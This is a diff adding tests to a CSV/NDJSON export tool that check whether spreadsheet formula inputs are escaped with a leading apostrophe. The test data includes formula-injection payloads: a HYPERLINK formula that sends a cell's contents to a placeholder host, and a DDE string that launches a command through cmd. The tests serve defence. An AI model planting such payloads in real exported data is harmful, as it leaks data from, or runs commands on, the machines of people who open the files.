@@ -302,3 +302,44 @@ describe('several games in one file', () => {
     expect(err).toMatch(new RegExp(`^✗ -:${line}: Line ${line}, column `));
   });
 });
+
+describe('what a spreadsheet would run', () => {
+  const formulas = [
+    '=HYPERLINK("http://e/?x="&A1,"k")',
+    "+cmd|' /C calc'!A0",
+    '@SUM(1)',
+    '－1+1',
+    '-2+3',
+  ];
+  const { options, ...rest } = JSON.parse(GOOD);
+  const stdin = JSON.stringify({
+    ...rest,
+    options: { ...options, players: formulas.slice(0, 3), seed: '=1+1' },
+  });
+  const others = JSON.stringify({
+    ...rest,
+    options: { ...options, players: ['a', ...formulas.slice(3)] },
+  });
+
+  test('has an apostrophe in CSV', async () => {
+    const { out } = await concordia(['table', 'players', '--no-header', '-'], { stdin });
+    const rows = out.split('\n');
+    expect(rows[0]).toContain(`,"'=HYPERLINK(""http://e/?x=""&A1,""k"")",`);
+    expect(rows[1]).toContain(",'+cmd|' /C calc'!A0,");
+    expect(rows[2]).toContain(",'@SUM(1),");
+    const games = await concordia(['table', 'games', '--no-header', '-'], { stdin });
+    expect(games.out).toContain(",'=1+1,");
+    const more = await concordia(['table', 'players', '--no-header', '-'], { stdin: others });
+    expect(more.out).toContain(",'－1+1,");
+    expect(more.out).toContain(",'-2+3,");
+    // The source is standard input, which is no formula.
+    expect(games.out).toMatch(/^[0-9a-f]{16},-,/);
+  });
+
+  test('is as it is in NDJSON, and in CSV with --raw', async () => {
+    const raw = await concordia(['table', 'players', '--no-header', '--raw', '-'], { stdin });
+    expect(raw.out.split('\n')[2]).toContain(',@SUM(1),');
+    const rows = await rowsOf('players', '-', stdin);
+    expect(rows.map(({ name }) => name)).toEqual(formulas.slice(0, 3));
+  });
+});
